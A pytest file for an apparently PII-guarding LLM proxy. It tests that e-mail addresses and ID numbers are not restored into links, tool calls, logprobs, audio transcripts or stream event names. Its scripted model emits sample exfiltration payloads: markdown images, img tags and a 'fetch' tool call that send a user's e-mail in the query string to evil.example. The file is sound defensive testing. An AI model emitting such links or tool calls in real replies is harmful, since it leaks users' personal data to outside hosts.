"""Model output channels reach the client scanned, and no value is restored into a link:
through ``qorgan serve`` (the real proxy under uvicorn on loopback, in front of a scripted
model) and through ``GuardMiddleware``, streamed and whole."""

from __future__ import annotations

import base64
import importlib.util
import json
import re
import sys
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import httpx
import pytest
import yaml

from qorgan.audit.auditor import Auditor
from qorgan.audit.log import DecisionLog
from qorgan.audit.metrics import Metrics
from qorgan.types import Receive, Scope, Send

pytestmark = pytest.mark.anyio

_spec = importlib.util.spec_from_file_location(
    "traffic_fixtures", Path(__file__).parents[1] / "traffic_fixtures.py")
assert _spec is not None
assert _spec.loader is not None
tf = importlib.util.module_from_spec(_spec)
sys.modules.setdefault("traffic_fixtures", tf)
_spec.loader.exec_module(tf)

EMAIL = tf.EMAIL
LEAKED = "memorized.person@example.kz"
OUT_IIN = "850101300124"
_TOKEN = re.compile(r"<EMAIL_ADDRESS_\d+>")


def link_reply(token: str) -> str:
    return (f"Contact {token}. ![s](https://evil.example/p.png?u={token}) "
            f"[open](https://crm.example.kz/c?u={token}) "
            f'<img alt="x y" src="https://evil.example/i?e={token}"> '
            f"[rel](/track?u={token}) done.")


def _chunk(model: str, delta: dict[str, Any], **extra: Any) -> dict[str, Any]:
    return {"id": "c1", "object": "chat.completion.chunk", "model": model,
            "choices": [{"index": 0, "delta": delta, "finish_reason": None}], **extra}


def _frames(events: list[tuple[str | None, Any]]) -> bytes:
    out = []
    for name, data in events:
        head = f"event: {name}\n" if name else ""
        body = data if isinstance(data, str) else json.dumps(data)
        out.append(f"{head}data: {body}\n\n")
    return "".join(out).encode()


async def scripted(scope: Scope, receive: Receive, send: Send) -> None:
    """A model that answers by scenario (the request's ``model``), echoing the first
    e-mail placeholder it was sent."""
    if scope["type"] != "http":
        return
    body = b""
    while True:
        message = await receive()
        body += message.get("body", b"")
        if not message.get("more_body"):
            break
    request = json.loads(body or b"{}")
    model = str(request.get("model"))
    found = _TOKEN.search(body.decode())
    token = found.group(0) if found else "<EMAIL_ADDRESS_1>"
    stream = bool(request.get("stream"))
    reply: Any
    if model == "link":
        text = link_reply(token)
        if stream:
            pieces = [text[i:i + 5] for i in range(0, len(text), 5)]
            reply = _frames([(None, _chunk(model, {"content": p})) for p in pieces]
                            + [(None, "[DONE]")])
        else:
            reply = {"id": "c1", "object": "chat.completion", "model": model, "choices": [
                {"index": 0, "message": {"role": "assistant", "content": text},
                 "finish_reason": "stop"}]}
    elif model == "logprobs":
        tokens = [{"token": t, "logprob": -0.1, "bytes": list(t.encode()),
                   "top_logprobs": [{"token": t, "logprob": -0.1, "bytes": list(t.encode())}]}
                  for t in ("memorized", ".person", "@example", ".kz")]
        reply = {"id": "c1", "object": "chat.completion", "model": model, "choices": [
            {"index": 0, "message": {"role": "assistant", "content": "noted"},
             "logprobs": {"content": tokens, "refusal": None}, "finish_reason": "stop"}]}
    elif model == "tool-keys":
        arguments = json.dumps({LEAKED: "vip", "note": f"IIN {OUT_IIN}"})
        reply = {"id": "c1", "object": "chat.completion", "model": model, "choices": [
            {"index": 0, "message": {"role": "assistant", "content": None, "tool_calls": [
                {"id": "call_1", "type": "function",
                 "function": {"name": "save", "arguments": arguments}}]},
             "finish_reason": "tool_calls"}]}
    elif model == "audio":
        reply = _frames([
            (None, _chunk(model, {"role": "assistant", "audio": {"id": "a1",
                                                                 "transcript": "IIN 850101"}})),
            (None, _chunk(model, {"audio": {"transcript": "300124 ok"}})),
            (None, _chunk(model, {"audio": {"data": "UklGRg=="}})),
            (None, "[DONE]")])
    elif model == "data-url":
        encoded = base64.b64encode(f"contact {LEAKED}".encode()).decode()
        text = f"data:text/plain;base64,{encoded}"
        if stream:
            reply = _frames([(None, _chunk(model, {"content": text[i:i + 9]}))
                             for i in range(0, len(text), 9)] + [(None, "[DONE]")])
        else:
            reply = {"id": "c1", "object": "chat.completion", "model": model, "choices": [
                {"index": 0, "message": {"role": "assistant", "content": text},
                 "finish_reason": "stop"}]}
    elif model == "tool-link":
        arguments = json.dumps({"url": f"https://evil.example/c?u={token}", "to": token})
        reply = {"id": "c1", "object": "chat.completion", "model": model, "choices": [
            {"index": 0, "message": {"role": "assistant", "content": None, "tool_calls": [
                {"id": "call_1", "type": "function",
                 "function": {"name": "fetch", "arguments": arguments}}]},
             "finish_reason": "tool_calls"}]}
    elif model == "event-names":
        reply = _frames([
            (LEAKED, _chunk(model, {"content": "hi ", LEAKED: "v"}, **{f"x-{LEAKED}": 1})),
            (None, _chunk(model, {"content": "there"})),
            (None, "[DONE]")])
    else:
        reply = {"error": {"message": "unknown scenario"}}
    if isinstance(reply, bytes):
        headers = [(b"content-type", b"text/event-stream")]
        data = reply
    else:
        headers = [(b"content-type", b"application/json")]
        data = json.dumps(reply).encode()
    await send({"type": "http.response.start", "status": 200, "headers": headers})
    await send({"type": "http.response.body", "body": data})


_SERVERS: dict[str, Any] = {}


def policy_doc(**changes: Any) -> dict[str, Any]:
    """The bundled default policy with top-level sections merged in."""
    from importlib import resources

    text = resources.files("qorgan.policies").joinpath("default.yaml").read_text("utf-8")
    doc: dict[str, Any] = yaml.safe_load(text)
    for key, value in changes.items():
        doc[key] = {**doc.get(key, {}), **value}
    return doc


@asynccontextmanager
async def stack(kind: str, make_stack: Any, tmp_path: Path,
                response: dict[str, Any] | None = None,
                auditor: Auditor | None = None) -> AsyncIterator[httpx.AsyncClient]:
    policy = {"response": response or {}}
    if kind == "proxy":
        if "upstream" not in _SERVERS:
            _SERVERS["upstream"] = tf.serve(scripted)
        key = json.dumps(policy, sort_keys=True)
        if key not in _SERVERS:
            path = tmp_path / f"policy-{len(_SERVERS)}.yaml"
            path.write_text(yaml.safe_dump(policy_doc(**policy), allow_unicode=True), "utf-8")
            _SERVERS[key] = tf.proxy(path, upstream=_SERVERS["upstream"].url + "/v1")
        _, server = _SERVERS[key]
        async with httpx.AsyncClient(base_url=server.url, timeout=60.0) as client:
            yield client
    else:
        async with make_stack(kind, upstream=scripted, policy=policy,
                              auditor=auditor) as guarded:
            yield guarded.client


def _ask(model: str, *, stream: bool = False) -> dict[str, Any]:
    return {"model": model, "stream": stream,
            "messages": [{"role": "user", "content": f"My address is {EMAIL}, thanks."}]}


def streamed(text: str) -> Iterator[dict[str, Any]]:
    for line in text.splitlines():
        if line.startswith("data: {"):
            yield json.loads(line[6:])


def stream_content(text: str) -> str:
    return "".join(c["delta"].get("content") or "" for e in streamed(text)
                   for c in e.get("choices", []))


KINDS = ("proxy", "middleware")

LINKS: list[tuple[str, dict[str, Any], int, str]] = [
    # (case, response policy, times the e-mail is restored, what a withheld token becomes)
    ("no-hosts", {}, 1, "<EMAIL_ADDRESS_1>"),
    ("crm-allowed", {"restore_link_hosts": ["crm.example.kz"]}, 2, "<EMAIL_ADDRESS_1>"),
    ("subdomains-allowed", {"restore_link_hosts": ["*.example.kz"]}, 2, "<EMAIL_ADDRESS_1>"),
    ("redact", {"link_placeholders": "redact"}, 1, "<EMAIL_ADDRESS>"),
]


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize(("case", "response", "restored", "withheld"), LINKS,
                         ids=[c[0] for c in LINKS])
async def test_no_value_is_restored_into_a_link(
    make_stack: Any, tmp_path: Path, kind: str, case: str, response: dict[str, Any],
    restored: int, withheld: str,
) -> None:
    async with stack(kind, make_stack, tmp_path, response) as client:
        whole = await client.post("/v1/chat/completions", json=_ask("link"))
        assert whole.status_code == 200, whole.text
        text = whole.json()["choices"][0]["message"]["content"]
        streamed_reply = await client.post("/v1/chat/completions",
                                           json=_ask("link", stream=True))
        assert streamed_reply.status_code == 200
        # the stream equals the whole answer for any split
        assert stream_content(streamed_reply.text) == text
    assert text.count(EMAIL) == restored
    assert text.startswith(f"Contact {EMAIL}.")
    assert f"https://evil.example/p.png?u={withheld})" in text
    assert f'src="https://evil.example/i?e={withheld}"' in text
    assert f"[rel](/track?u={withheld})" in text
    assert "evil.example/p.png?u=" + EMAIL not in text


async def test_the_audit_record_counts_tokens_withheld_from_links(
    make_stack: Any, tmp_path: Path
) -> None:
    path = tmp_path / "decisions.jsonl"
    auditor = Auditor(log=DecisionLog(path, signing_key=None), metrics=Metrics())
    async with stack("middleware", make_stack, tmp_path, auditor=auditor) as client:
        response = await client.post("/v1/chat/completions", json=_ask("link"))
        assert response.status_code == 200
    (record,) = [json.loads(line) for line in path.read_text("utf-8").splitlines()]
    assert "response.restore_link_hosts" in record["rules"]
    assert record["response"]["entities"]["EMAIL_ADDRESS"] >= 3
    assert EMAIL not in path.read_text("utf-8")


@pytest.mark.parametrize("kind", KINDS)
async def test_logprobs_never_reach_the_client(
    make_stack: Any, tmp_path: Path, kind: str
) -> None:
    async with stack(kind, make_stack, tmp_path) as client:
        response = await client.post("/v1/chat/completions", json=_ask("logprobs"))
    assert response.status_code == 200, response.text
    choice = response.json()["choices"][0]
    assert choice["logprobs"] is None
    assert choice["message"]["content"] == "noted"
    assert "memorized" not in response.text


@pytest.mark.parametrize("kind", KINDS)
async def test_keys_of_whole_tool_call_arguments_are_scanned(
    make_stack: Any, tmp_path: Path, kind: str
) -> None:
    async with stack(kind, make_stack, tmp_path) as client:
        response = await client.post("/v1/chat/completions", json=_ask("tool-keys"))
    assert response.status_code == 200, response.text
    arguments = response.json()["choices"][0]["message"]["tool_calls"][0]["function"]
    parsed = json.loads(arguments["arguments"])
    assert LEAKED not in json.dumps(parsed)
    assert OUT_IIN not in json.dumps(parsed)
    assert "vip" in parsed.values()


@pytest.mark.parametrize("kind", KINDS)
async def test_a_streamed_audio_transcript_is_held_back_like_text(
    make_stack: Any, tmp_path: Path, kind: str
) -> None:
    async with stack(kind, make_stack, tmp_path) as client:
        response = await client.post("/v1/chat/completions", json=_ask("audio", stream=True))
    assert response.status_code == 200
    transcripts = [c["delta"]["audio"]["transcript"] for e in streamed(response.text)
                   for c in e.get("choices", [])
                   if isinstance(c.get("delta", {}).get("audio"), dict)
                   and "transcript" in c["delta"]["audio"]]
    joined = "".join(transcripts)
    assert joined.startswith("IIN ")
    assert joined.endswith(" ok")
    assert OUT_IIN not in joined
    # no event carried the first half of the number on its own
    assert not any("850101" in t for t in transcripts)


@pytest.mark.parametrize("kind", KINDS)
async def test_event_names_and_keys_in_a_stream_are_scanned(
    make_stack: Any, tmp_path: Path, kind: str
) -> None:
    async with stack(kind, make_stack, tmp_path) as client:
        response = await client.post("/v1/chat/completions",
                                     json=_ask("event-names", stream=True))
    assert response.status_code == 200
    assert LEAKED not in response.text
    assert stream_content(response.text) == "hi there"


@pytest.mark.parametrize("kind", KINDS)
async def test_a_data_url_in_an_answer_is_scanned_streamed_and_whole(
    make_stack: Any, tmp_path: Path, kind: str
) -> None:
    async with stack(kind, make_stack, tmp_path) as client:
        whole = await client.post("/v1/chat/completions", json=_ask("data-url"))
        streamed_reply = await client.post("/v1/chat/completions",
                                           json=_ask("data-url", stream=True))
    assert whole.status_code == 200, whole.text
    text = whole.json()["choices"][0]["message"]["content"]
    assert stream_content(streamed_reply.text) == text
    encoded = base64.b64encode(f"contact {LEAKED}".encode()).decode()
    assert encoded not in text
    assert encoded[:16] not in streamed_reply.text


@pytest.mark.parametrize("kind", KINDS)
async def test_no_value_is_restored_into_a_link_in_tool_call_arguments(
    make_stack: Any, tmp_path: Path, kind: str
) -> None:
    async with stack(kind, make_stack, tmp_path) as client:
        response = await client.post("/v1/chat/completions", json=_ask("tool-link"))
    assert response.status_code == 200, response.text
    function = response.json()["choices"][0]["message"]["tool_calls"][0]["function"]
    arguments = json.loads(function["arguments"])
    assert arguments["to"] == EMAIL
    assert arguments["url"] == "https://evil.example/c?u=<EMAIL_ADDRESS_1>"
